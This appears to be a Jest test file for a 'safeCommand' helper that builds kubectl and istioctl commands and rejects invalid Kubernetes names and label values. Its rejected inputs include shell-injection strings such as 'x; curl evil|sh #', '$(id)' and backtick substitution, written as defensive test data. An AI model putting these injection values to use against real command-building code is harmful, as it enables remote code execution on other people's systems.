import { safeCommand } from './safeCommand';

describe('safeCommand', () => {
  it('fills in names and values of labels', () => {
    const revision = { label: '1-30_Canary' };
    expect(
      safeCommand`kubectl get pods ${'cart.v2-a'} -n ${'shop'} -l rev=${revision} -o wide`,
    ).toEqual({
      command: 'kubectl get pods cart.v2-a -n shop -l rev=1-30_Canary -o wide',
    });
  });

  it.each([
    ['a', 'A'],
    ['a'.repeat(253), 'a'.repeat(63)],
    ['a.b-c.d', 'A.b_c-D'],
    ['0', '0'],
  ])('holds the name %s and the label value %s', (name, label) => {
    expect(safeCommand`get ${name} -l rev=${{ label }}`).toEqual({
      command: `get ${name} -l rev=${label}`,
    });
  });

  it.each([
    'a'.repeat(254),
    'a_b',
    '.a',
    'a.',
    'x; curl evil|sh #',
    '$(id)',
    '`id`',
    'a b',
    'a\nb',
    'cart\n',
    '-n',
    '--all',
    'cart-',
    'a"b',
    "a'b",
    'a\\',
    'Cart',
    'a/b',
    '',
    undefined,
    'a'.repeat(1_000_000),
  ])('is none with the name %p', name => {
    expect(safeCommand`kubectl delete pod ${name}`).toEqual({});
  });

  it.each(['a;b', '-l', 'l-', '_l', '$x', 'a b', '', 'a'.repeat(64)])(
    'is none with the label value %p',
    label => {
      expect(safeCommand`istioctl uninstall --revision ${{ label }}`).toEqual(
        {},
      );
    },
  );
});
